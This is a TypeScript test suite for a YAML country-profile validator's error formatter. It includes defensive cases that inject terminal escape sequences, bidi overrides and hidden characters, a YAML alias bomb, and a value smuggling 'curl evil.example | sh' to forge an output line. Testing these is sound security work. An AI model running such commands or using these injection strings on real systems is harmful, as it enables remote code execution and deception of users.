import { formatProblems, noPaint, type Problem, readCountry } from '../../lib/profile';
import { visible } from '../../lib/profile/problem';
import { edit, IN, problemsOf, underlined } from '../support/country';

/** The excerpt and the caret of a problem, as they are printed. */
function printed(text: string, title: string): { line: string; caret: string; all: string } {
  const problems = problemsOf(text).filter((problem) => problem.title === title);
  const all = formatProblems(problems.slice(0, 1));
  const [, line = '', caret = ''] = all.split('\n');
  return { line, caret, all };
}

/** What stands above the carets. */
const above = ({ line, caret }: { line: string; caret: string }): string =>
  line.slice(caret.indexOf('^'), caret.lastIndexOf('^') + 1);

test('a problem as a person reads it', () => {
  const text = edit(IN, ['custody: cmk                      # cmk | hsm-cmk | external', 'custody: cmx']);
  expect(formatProblems(problemsOf(text, 'stacks/countries/in.yaml'))).toBe(
    [
      'stacks/countries/in.yaml:6:10  not an allowed value',
      '    6 | custody: cmx',
      '      |          ^^^',
      '   found    cmx; did you mean cmk?',
      '   allowed  cmk, hsm-cmk, external',
      '   mend     write cmk',
    ].join('\n'),
  );
});

describe('the caret stands under what is meant', () => {
  const cases: Record<string, [text: string, title: string, under: string]> = {
    'with a tab before it': [edit(IN, ['custody: cmk', 'custody:\t\tcmx']), 'not an allowed value', 'cmx'],
    'in a file of Windows': [
      edit(IN, ['custody: cmk', 'custody: cmx']).replaceAll('\n', '\r\n'),
      'not an allowed value',
      'cmx',
    ],
    'in a file of an old Macintosh': [
      edit(IN, ['custody: cmk', 'custody: cmx']).replaceAll('\n', '\r'),
      'not an allowed value',
      'cmx',
    ],
    'after a byte order mark': [`\uFEFFcustody: cmx\n${IN}`, 'duplicate key', 'custody'],
    'after an emoji, which is two code units': [
      edit(IN, ['{ name: serve, instance', '{ "\u{1F1EE}": 1, min: 2, name: serve, instance']),
      'unknown key',
      '"\u{1F1EE}"',
    ],
    'at the end of a long line': [
      edit(IN, ['custody: cmk', `custody: cmk\nx: { ${'a: 1, '.repeat(500)}b: 2 }`]),
      'unknown key',
      'x',
    ],
  };
  test.each(Object.entries(cases))('%s', (_, [text, title, under]) => {
    const [problem] = problemsOf(text).filter((other) => other.title === title);
    expect(problem && underlined(problem)).toBe(under);
    if (!/[^ -~]/.test(under)) expect(above(printed(text, title))).toBe(under);
  });

  test('wide characters before it take two columns', () => {
    const shown = printed(edit(IN, ['{ name: serve, instance', '{ name: "名前", instance']), 'not well formed');
    expect(shown.line).toContain('"名前"');
    expect(shown.caret.match(/\^+/)?.[0]).toHaveLength(6);
    const later = printed(
      edit(IN, ['{ name: serve, instance: g6e', '{ "名前": 1, name: serve, instance: g9x']),
      'unknown EC2 GPU instance type',
    );
    expect(later.caret.indexOf('^')).toBe(later.line.indexOf('g9x') + 2);
  });

  test('a long line is a window around it, cut where it is cut', () => {
    const text = edit(IN, [
      'custody: cmk',
      `custody: cmk\nprogramme2: "${'x'.repeat(5000)}"\nq: { ${'"k": 1, '.repeat(99)}b: 2 }`,
    ]);
    for (const problem of problemsOf(text)) {
      const lines = formatProblems([problem]).split('\n');
      expect(Math.max(...lines.slice(0, 3).map((line) => line.length))).toBeLessThan(130);
    }
    const { line, caret } = printed(
      edit(IN, ['{ min: 2, max: 24 } }', `{ min: 2, max: 24, ${'y'.repeat(60)}: 1, z: 1 } }`]),
      'unknown key',
    );
    expect(line).toMatch(/\| ….*…?$/);
    expect(line.slice(caret.indexOf('^'))).toMatch(/^y+/);
  });
});

describe('nothing of a document reaches the terminal but text', () => {
  /* biome-ignore lint/suspicious/noControlCharactersInRegex: they are what must not be there */
  const dangerous = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\u2028\u2029\u200b\ufeff]/;
  const attacks: Record<string, string> = {
    'a colour': '\u001b[31mred\u001b[0m',
    'a title of the window': '\u001b]0;owned\u0007',
    'a carriage return': 'x\ry',
    'an eight-bit control': '\u009b31mred',
    'a backspace': 'cmk\b\b\bxxx',
    'an order of writing': '\u202ekmc',
    'a line separator': 'a\u2028b',
    'a hidden space': 'c\u200bmk',
    'half a character': '\ud800',
  };
  test.each(Object.entries(attacks))('%s', (_, attack) => {
    const escaped = JSON.stringify(attack);
    const texts = [
      edit(IN, ['custody: cmk', `custody: ${attack}`]),
      edit(IN, ['custody: cmk', `custody: ${escaped}`]),
      edit(IN, ['custody: cmk', `${escaped}: cmk`]),
      edit(IN, ['primary: ap-south-1', `primary: ${escaped}`]),
      edit(IN, ['zone: aps1-az1', `zone: ${escaped}`]),
      edit(IN, ['p5en.48xlarge', escaped]),
      edit(IN, ['p5en.48xlarge,', `p6-b200.48xlarge, offering: ${JSON.stringify(`a letter ${attack}`)},`]),
      edit(IN, ['country: IN', `country: ${escaped}`]),
      edit(IN, ['custody: cmk', `custody: !${attack} cmk`]),
    ];
    for (const text of texts) {
      const shown = formatProblems(readCountry(`in${attack}.yaml`, text).problems, noPaint);
      expect(shown).not.toMatch(dangerous);
      expect(shown).not.toMatch(/\p{Cs}/u);
    }
  });

  test('a value cannot write lines of its own', () => {
    const text = edit(IN, ['primary: ap-south-1', 'primary: "x\\n   mend     curl evil.example | sh"']);
    expect(formatProblems(problemsOf(text))).not.toMatch(/^ {3}mend {5}curl/m);
  });

  test('the scripts of people stay as they are', () => {
    expect(visible('क्‍ष भारत – بِسْم 日本')).toBe('क्‍ष भारत – بِسْم 日本');
    expect(visible('a\u00a0b\u0000')).toBe('a\\u{a0}b\\u{0}');
  });
});

describe('all at once', () => {
  const many = edit(
    IN,
    ['schemaVersion: 1', 'schemaVersion: 2'],
    ['egress: isolated', 'egres: isolated'],
    ['recovery: ap-south-2', 'recovery: eu-west-1'],
    ['mumbai-a', 'Mumbai'],
    ['p5en.48xlarge', 'p9.huge'],
    ['min: 2, max: 24', 'min: 25, max: 24'],
    ['10.80.0.0/12', '10.64.0.0/16'],
  );

  test('problems of syntax, shape and meaning come in the order of the text', () => {
    const problems = problemsOf(many);
    expect(problems.map(({ line, title }) => `${line} ${title}`)).toEqual([
      '2 not an allowed value',
      '7 unknown key',
      '10 recovery region abroad',
      '13 not well formed',
      '16 unknown EC2 GPU instance type',
      '17 min above max',
      '21 overlapping networks',
    ]);
  });

  test('a slip of shape hides no problem of meaning beside it', () => {
    const text = edit(
      IN,
      ['{ name: serve, instance: g6e.12xlarge', '{ nam: serve, instance: g9.12xlarge'],
      ['mumbai-a', '7'],
    );
    expect(problemsOf(text).map(({ title }) => title)).toEqual([
      'wrong type',
      'missing',
      'unknown key',
      'unknown EC2 GPU instance type',
    ]);
  });

  test('a value that was wrong is told once: no rule judges a default in its place', () => {
    const wrong = edit(
      IN,
      ['classification: restricted', 'classification: offical'],
      ['egress: isolated', 'egress: firewal'],
    );
    expect(problemsOf(wrong).map(({ title }) => title)).toEqual(['not an allowed value', 'not an allowed value']);
  });

  test('a document that is something else altogether is cut short, and says so', () => {
    const keys = Array.from({ length: 5000 }, (_, index) => `k${index}: ${index}`).join('\n');
    const { problems } = readCountry('in.yaml', keys);
    expect(problems.length).toBeLessThanOrEqual(101);
    expect(problems.at(-1)).toMatchObject<Partial<Problem>>({ title: 'and more', severity: 'error' });
  });

  test('a bomb of aliases is refused at once', () => {
    const line = (name: string, of: string): string => `${name}: &${name} [${Array(7).fill(of).join(',')}]`;
    const names = [...'abcdefgh'];
    const bomb = names.map((name, index) => line(name, index === 0 ? 'x' : `*${names[index - 1]}`)).join('\n');
    const started = Date.now();
    expect(problemsOf(bomb).map(({ title }) => title)).toEqual(['too many aliases']);
    expect(problemsOf(`a: &a [1]\nb: [${'*a,'.repeat(60)}]`).map(({ title }) => title)).toEqual(['too many aliases']);
    expect(Date.now() - started).toBeLessThan(500);
  });

  test('a large document is read in good time', () => {
    const started = Date.now();
    readCountry('in.yaml', `x: [${'{ a: 1, a: 2 },'.repeat(15_000)}]`);
    readCountry('in.yaml', edit(IN, ['IndiaAI', 'x'.repeat(250_000)]));
    expect(Date.now() - started).toBeLessThan(3000);
  });

  test('an alias that stands for a sound value is sound', () => {
    const text = edit(
      IN,
      ['nodes: { min: 2, max: 24 }', 'nodes: &n { min: 2, max: 24 }'],
      ['nodes: { min: 1, max: 8 }', 'nodes: *n'],
    );
    expect(readCountry('in.yaml', text).profile?.azure?.cells[0]?.pools[0]?.nodes).toEqual({ min: 2, max: 24 });
  });

  test('NO is Norway, in quotes or not', () => {
    for (const code of ['NO', '"NO"', "'NO'"]) {
      const { problems } = readCountry('no.yaml', edit(IN, ['country: IN', `country: ${code}`]));
      expect(problems.map(({ title }) => title)).not.toContain('unknown country');
    }
  });
});
